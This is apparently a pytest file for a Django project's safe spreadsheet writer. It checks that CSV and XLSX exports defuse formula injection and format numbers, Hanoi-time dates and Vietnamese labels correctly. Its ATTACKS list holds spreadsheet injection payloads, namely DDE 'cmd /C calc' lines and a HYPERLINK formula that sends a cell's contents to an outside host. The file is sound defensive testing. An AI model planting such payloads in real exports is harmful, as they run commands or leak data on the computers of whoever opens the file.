"""The safe writer's cells: formulas neutralised, numbers kept, values as people read them."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest
from django.utils import translation
from openpyxl import Workbook

from ops.spreadsheets import BOM, csv_cell, csv_response, xlsx_cell

ATTACKS = [
    '=HYPERLINK("http://x/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_text_that_starts_like_a_formula_gets_a_leading_quote(attack):
    assert csv_cell(attack) == "'" + attack


def test_numbers_stay_numbers_and_ordinary_text_is_untouched():
    assert csv_cell(-5) == -5
    assert csv_cell(-2.5) == -2.5
    assert csv_cell(Decimal("-1500000")) == Decimal("-1500000")
    assert csv_cell("-5") == "'-5"  # typed as text, read as text
    assert csv_cell("Nguyễn Văn A = khách") == "Nguyễn Văn A = khách"
    assert csv_cell("a\x00b") == "ab"
    assert csv_cell(None) == ""


def test_values_read_as_people_read_them():
    moment = datetime(2026, 12, 7, 7, 5, 59, 123456, tzinfo=UTC)
    assert csv_cell(moment) == "2026-12-07 14:05"  # Hanoi time, to the minute
    assert csv_cell(date(2026, 12, 7)) == "2026-12-07"
    with translation.override("vi"):
        assert [csv_cell(True), csv_cell(False)] == ["Có", "Không"]
    with translation.override("en"):
        assert [csv_cell(True), csv_cell(False)] == ["Yes", "No"]


def test_csv_response_has_a_bom_a_charset_and_safe_cells():
    response = csv_response("x.csv", ["Tên", "Số"], [["=1+1", -3], ["Đêm nhạc", 4]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    text = response.content.decode("utf-8")
    assert text.startswith(BOM)
    assert list(csv.reader(io.StringIO(text[1:]))) == [
        ["Tên", "Số"],
        ["'=1+1", "-3"],
        ["Đêm nhạc", "4"],
    ]


def test_xlsx_cells_are_text_numbers_and_dates():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("S")
    moment = datetime(2026, 12, 7, 7, 5, 59, 123456, tzinfo=UTC)
    values = [*ATTACKS, -5, moment, date(2026, 12, 7), "a\x01b", "x" * 40000]
    sheet.append([xlsx_cell(sheet, value) for value in values])
    output = io.BytesIO()
    workbook.save(output)
    cells = list(openpyxl.load_workbook(output).active.iter_rows())[0]
    for cell, attack in zip(cells, ATTACKS, strict=False):
        # As typed, stored as text (never a formula), marked so Excel keeps it text.
        # (XML reads a carriage return back as a line feed.)
        typed = attack.replace("\r", "\n")
        assert (cell.value, cell.data_type, cell.quotePrefix) == (typed, "s", True)
    number, when, day, control, long = cells[len(ATTACKS) :]
    assert (number.value, number.data_type) == (-5, "n")
    assert when.value == datetime(2026, 12, 7, 14, 5)
    assert when.number_format == "yyyy-mm-dd hh:mm"
    assert day.value == datetime(2026, 12, 7) and day.number_format == "yyyy-mm-dd"
    assert control.value == "ab" and not control.quotePrefix
    assert len(long.value) == 32767
